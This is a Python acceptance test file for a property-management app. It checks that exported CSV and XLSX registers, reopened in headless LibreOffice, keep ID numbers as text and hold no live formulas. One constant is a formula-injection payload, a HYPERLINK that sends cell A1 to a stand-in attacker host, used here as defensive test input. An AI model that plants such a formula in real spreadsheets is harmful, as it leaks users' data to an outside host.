"""Exports opened by LibreOffice (headless), read back after LibreOffice saved them again.
Excluded from the default run: ``pytest tests/acceptance -o addopts="" -n 0`` with
``soffice`` on the PATH (apt-get install --no-install-recommends libreoffice-calc)."""

from __future__ import annotations

import shutil
import subprocess
from datetime import date

import pytest

from tests.services.conftest_complaints import intake, seed_roster as seed_complaint_roster
from tests.services.conftest_gate import gate_site, visitor  # noqa: F401
from wuye_tui.exports.exporter import export
from wuye_tui.services.complaints import intake as complaints
from wuye_tui.services.gate import visits as gate_visits

pytestmark = pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) not installed")

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
ID_DIGITS = "110101199003074477"
DAY = date(2026, 3, 2)


def lo_roundtrip(src, tmp_path):  # type: ignore[no-untyped-def]
    """LibreOffice opens ``src`` (CSV as UTF-8, comma, standard detection) and saves it as XLSX."""
    out = tmp_path / "lo"
    profile = tmp_path / "lo-profile"
    cmd = ["soffice", f"-env:UserInstallation=file://{profile}", "--headless"]
    if src.suffix == ".csv":
        cmd.append("--infilter=CSV:44,34,76,1")
    cmd += ["--convert-to", "xlsx", "--outdir", str(out), str(src)]
    subprocess.run(cmd, check=True, capture_output=True, timeout=180)
    from openpyxl import load_workbook

    return load_workbook(out / (src.stem + ".xlsx")).worksheets[0]


def cells(ws):  # type: ignore[no-untyped-def]
    return [c for row in ws.iter_rows() for c in row if c.value is not None]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_visitors_revealed_stay_text(gate_site, tmp_path, fmt):  # noqa: F811
    gate_visits.check_in(gate_site.guard, visitor(id_number=ID_DIGITS, phone="05718888123"))
    src = tmp_path / f"visitors.{fmt}"
    export(gate_site.sup, "visitors", DAY, DAY, fmt, src, reveal=True)
    got = cells(lo_roundtrip(src, tmp_path))
    texts = {str(c.value).lstrip("\t"): c.data_type for c in got}
    assert texts[ID_DIGITS] == "s"
    assert texts["0571-8888123"] == "s"
    assert not any(c.data_type == "n" and c.value > 10**12 for c in got)  # no 1.1E+17
    assert not any(c.data_type == "f" for c in got)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_complaint_formula_is_not_live(make_ctx, tmp_path, fmt):
    desk = make_ctx("front_desk")
    seed_complaint_roster(desk)
    complaints.add_complaint(desk, **intake(description=FORMULA))
    src = tmp_path / f"complaints.{fmt}"
    export(make_ctx("supervisor"), "complaints", DAY, DAY, fmt, src, reveal=True)
    got = cells(lo_roundtrip(src, tmp_path))
    assert not any(c.data_type == "f" for c in got)
    desc = [c for c in got if str(c.value).lstrip("'") == FORMULA]
    assert len(desc) == 1 and desc[0].data_type == "s"
    assert all(c.data_type == "s" for c in got if "HYPERLINK" in str(c.value))


def test_every_register_of_a_demo_site(tmp_path):
    """Every register exported revealed (CSV and XLSX) and opened by LibreOffice: no cell
    is a formula, no long digit string became a number."""
    from datetime import datetime, timezone

    from wuye_tui.clock import FixedClock
    from wuye_tui.db import Database
    from wuye_tui.demo import build_demo
    from wuye_tui.exports.registers import load_registers
    from wuye_tui.services.complaints import intake as complaint_service
    from wuye_tui.services.core.context import ServiceContext

    now = datetime(2026, 3, 2, 4, 0, tzinfo=timezone.utc)
    db = Database(f"sqlite:///{tmp_path / 'demo.db'}")
    db.upgrade()
    site = build_demo(db, households=40, days=4, seed=5, clock=FixedClock(now))
    ctx = ServiceContext(db=db, actor=site.staff["manager"], clock=FixedClock(now))
    complaint_service.add_complaint(ServiceContext(db=db, actor=site.staff["front_desk"], clock=FixedClock(now)),
                                    caller="张伟", unit=site.unit_codes[0], phone="13800138001", channel="phone",
                                    category="public_facility", cause="equipment", description=FORMULA)
    out = tmp_path / "exports"
    out.mkdir()
    names = sorted(load_registers())
    for name in names:
        for fmt in ("csv", "xlsx"):
            export(ctx, name, date(2026, 2, 20), date(2026, 3, 2), fmt, out / f"{name}_{fmt}.{fmt}", reveal=True)
    lo = tmp_path / "lo"
    profile = tmp_path / "lo-profile"
    for fmt in ("csv", "xlsx"):
        cmd = ["soffice", f"-env:UserInstallation=file://{profile}", "--headless"]
        if fmt == "csv":
            cmd.append("--infilter=CSV:44,34,76,1")
        cmd += ["--convert-to", "xlsx", "--outdir", str(lo / fmt), *[str(p) for p in sorted(out.glob(f"*.{fmt}"))]]
        subprocess.run(cmd, check=True, capture_output=True, timeout=600)
    from openpyxl import load_workbook

    seen_formula_text = False
    for fmt in ("csv", "xlsx"):
        for name in names:
            ws = load_workbook(lo / fmt / f"{name}_{fmt}.xlsx").worksheets[0]
            got = cells(ws)
            assert not any(c.data_type == "f" for c in got), (name, fmt)
            big = [c.value for c in got if c.data_type == "n" and isinstance(c.value, (int, float)) and c.value > 1e9]
            assert not big, (name, fmt, big[:3])
            seen_formula_text |= any(str(c.value).lstrip("'") == FORMULA for c in got)
    db.dispose()
    assert seen_formula_text
